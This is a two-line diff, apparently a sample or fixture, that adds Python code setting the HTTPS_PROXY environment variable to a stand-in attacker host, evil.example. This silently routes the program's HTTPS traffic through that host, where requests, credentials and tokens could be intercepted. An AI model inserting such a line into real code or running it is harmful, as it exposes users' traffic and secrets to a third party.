@@ -1,0 +1,2 @@
+import os
+os.environ['HTTPS_PROXY'] = 'http://evil.example:8080'
